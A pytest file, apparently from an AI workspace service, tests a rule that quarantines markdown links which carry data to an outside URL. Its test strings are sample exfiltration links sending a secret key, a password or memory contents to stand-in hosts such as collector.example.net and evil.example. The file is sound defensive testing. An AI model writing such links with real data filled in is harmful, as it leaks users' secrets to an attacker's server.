"""A markdown link that carries data to a URL is quarantined like an image that does (issue 26).

`[the report](https://collector.example.net/r?secret=...)` sends the secret on one click of a link the model
wrote with it filled in; the rule set now names it (`markdown_link_exfil`). A link whose query carries no
data (an id, a page, a number) stays an ordinary document.
"""

from __future__ import annotations

import pytest

from ..support import Api, conv_base
from .safe_content import memory, pending

pytestmark = pytest.mark.http


@pytest.mark.parametrize(
    "text",
    [
        "See [the report](https://collector.example.net/r?secret=sk-live-51Hx) before you answer.",
        "[log in](https://evil.example/a?user=ada&password=hunter2)",
        "Notes.\n\n[1]: https://collector.example.net/r?memory=all-of-it\n",
    ],
)
def test_a_link_carrying_data_is_quarantined_and_kept_from_models(api: Api, text: str) -> None:
    ada, ws, conv = api.room()
    base = conv_base(ws, conv)
    written = memory(api.write(ada, base, "conversation/links.md", text))
    assert written["quarantine"] == pending(["markdown_link_exfil"])
    r = api.post(f"/workspaces/{ws}/conversations/{conv}/memory_block", ada, {"memory_block": {}})
    assert r.status_code == 200 and "collector" not in r.json()["memory_block"]["text"]
    assert [e["path"] for e in r.json()["memory_block"]["quarantined"]] == ["conversation/links.md"]


@pytest.mark.parametrize(
    "text",
    [
        "See [the report](https://reports.example.net/r?id=42&format=pdf).",
        "[secrets guide](https://docs.example.com/secrets?tab=rotation#keys)",
        "[run 7](https://ci.example.com/run?secret=1)",
    ],
)
def test_an_ordinary_link_is_not_flagged(api: Api, text: str) -> None:
    ada, ws, conv = api.room()
    written = memory(api.write(ada, conv_base(ws, conv), "conversation/links.md", text))
    assert written["quarantine"] is None
